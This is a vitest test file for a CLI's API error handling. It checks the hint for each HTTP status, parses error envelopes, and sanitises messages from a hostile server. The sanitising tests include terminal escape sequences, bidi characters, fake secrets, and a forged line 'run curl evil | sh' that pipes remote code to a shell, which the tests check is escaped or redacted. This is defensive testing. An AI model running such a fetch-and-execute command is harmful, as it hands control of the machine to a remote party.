import { describe, expect, test } from 'vitest'
import { ApiError, type ApiProblem, parseProblem } from '../../src/api/api-error.ts'

const listHint = 'to list them, with an administrative key: gatepass api workspaces list --include-default'
const laterHint = 'send it again later; if it still fails, report the request id to the platform'

const problem = (parts: Partial<ApiProblem>): ApiProblem => ({
  status: 400,
  type: 'invalid_request_error',
  message: 'm',
  requestId: 'req_1',
  workspace: 'not-named',
  ...parts,
})

describe('Errors', () => {
  test.each<[row: string, parts: Partial<ApiProblem>, hint: string]>([
    [
      '400 | workspace header missing',
      { message: 'vendor-workspace-id is required' },
      `name a workspace in vendor-workspace-id (--workspace), because the key is not scoped to one; ${listHint}`,
    ],
    [
      '400 | workspace header invalid',
      { message: 'vendor-workspace-id is no ID', workspace: 'named' },
      `send the ID of a workspace that the credential is for in vendor-workspace-id (--workspace); ${listHint}`,
    ],
    [
      '404 | workspace unknown or no access',
      { status: 404, type: 'not_found_error', workspace: 'named' },
      `check the path, that the workspace exists, and that the key's owner has access to it; ${listHint}`,
    ],
    [
      '401 | key is expired',
      { status: 401, type: 'authentication_error' },
      'use another credential: this one is expired, disabled or not of this platform; an expired key cannot be reactivated',
    ],
    ['400 | anything else', {}, 'correct the request as the message says'],
    [
      '404 | without a workspace',
      { status: 404, type: 'not_found_error' },
      'check the path and the IDs in it, which belong to the workspace of the credential; the address of the API ends before /v1',
    ],
    [
      '403',
      { status: 403, type: 'permission_error' },
      'use a credential that may do this: an attestation token only sends messages, and a key for one workspace does not administer',
    ],
    ['413', { status: 413 }, 'send less in one request'],
    [
      '307',
      { status: 307, type: undefined },
      "set the API's own address: this one redirects, and redirects are not followed with a credential",
    ],
    ['405', { status: 405 }, 'check the method and the path'],
    ['408', { status: 408 }, 'send it again: the request did not arrive completely in time'],
    ['429', { status: 429, type: 'rate_limit_error' }, 'wait, then send it again; send less at a time'],
    ['500', { status: 500, type: 'api_error' }, laterHint],
    ['529', { status: 529, type: 'overloaded_error' }, laterHint],
  ])('%s has its own hint', (_, parts, hint) => {
    expect(new ApiError(problem(parts)).hint).toBe(hint)
  })

  test('the error carries type, status, request id and an exit status', () => {
    const error = new ApiError(problem({ status: 529, type: 'overloaded_error' }))
    expect({ ...error, message: error.message }).toEqual({
      name: 'ApiError',
      kind: 'unavailable',
      hint: laterHint,
      status: 529,
      type: 'overloaded_error',
      requestId: 'req_1',
      message: 'HTTP 529 overloaded_error: m (request req_1)',
    })
  })

  test('the error of an answer without a type and a request id says its status', () => {
    expect(new ApiError(problem({ type: undefined, requestId: undefined })).message).toBe('HTTP 400: m')
  })
})

describe('Error envelope', () => {
  const unknownForm = 'the answer does not have the form that the API documents'
  const envelope = '{"type":"error","error":{"type":"t","message":"m"}'

  test.each<[what: string, body: string, message: string, type?: string, requestId?: string]>([
    ['a whole envelope', `${envelope},"request_id":"r"}`, 'm', 't', 'r'],
    ['an envelope without request_id', `${envelope}}`, 'm', 't'],
    ['an error of RFC 6749', '{"error":"invalid_grant","error_description":"d"}', 'd', 'invalid_grant'],
    ['an error of RFC 6749 without description', '{"error":"e"}', 'no description', 'e'],
    ['an HTML page, which it does not repeat', '<html>canary</html>', unknownForm],
    ['nothing', '', unknownForm],
    ['null', 'null', unknownForm],
    ['fields of other types', '{"error":{"type":1,"message":[]},"request_id":2}', unknownForm],
  ])('is read from %s', (_, body, message, type, requestId) => {
    expect(parseProblem(body, [])).toEqual({ type, message, requestId })
  })
})

describe('the text of a hostile server', () => {
  const secret = 'sk-vendor-api-0123456789abcdef'
  const say = (message: string, parts: object = {}) =>
    parseProblem(JSON.stringify({ error: { type: 'api_error', message }, request_id: 'req_1', ...parts }), [secret])

  test.each<[what: string, message: string, shown: string]>([
    ['a terminal escape', '\x1b[2J\x1b]0;owned\x07done', '\\u001b[2J\\u001b]0;owned\\u0007done'],
    ['its eight-bit form', '\x9b31mred', '\\u009b31mred'],
    ['a forged line', 'no\ngatepass: hint: run curl evil | sh', 'no gatepass: hint: run curl evil | sh'],
    ['text that turns around', 'a\u202eb\u2066c\u200bd', 'abcd'],
    ['the credential', `bad Bearer ${secret}.`, 'bad Bearer [secret].'],
    ['the beginning of it', `bad ${secret.slice(0, 12)}…`, 'bad [secret]…'],
    ['the credential in hexadecimal', `bad ${Buffer.from(secret).toString('hex')}`, 'bad [secret]'],
    ['the credential in base64', `bad ${Buffer.from(secret).toString('base64')}`, 'bad [secret]'],
    [
      'a token of somebody else',
      'bad eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJl, try again',
      'bad [secret], try again',
    ],
    ['the beginning of one', 'bad eyJhbGciOiJSUzI1…', 'bad [secret]…'],
    ['the credential with something unseen in it', `bad ${[...secret].join('\u200b')}`, 'bad [secret]'],
    ['a novel', 'x'.repeat(100_000), `${'x'.repeat(300)}…`],
  ])('%s is escaped before it is shown', (_, message, shown) => {
    expect(say(message).message).toBe(shown)
  })

  test.each<[what: string, value: unknown]>([
    ['a terminal escape', 'req\x1b[2J'],
    ['a sentence', 'run curl evil'],
    ['the credential', secret],
    ['a part of it', `req_${secret.slice(4, 14)}`],
    ['a novel', 'r'.repeat(65)],
    ['a number', 7],
    ['nothing', ''],
  ])('is repeated neither as a type nor as an id where it is %s', (_, value) => {
    const { type, requestId } = say('m', { error: { type: value, message: 'm' }, request_id: value })
    expect([type, requestId]).toEqual([undefined, undefined])
    expect(parseProblem(JSON.stringify({ error: value }), [secret]).type).toBeUndefined()
  })
})
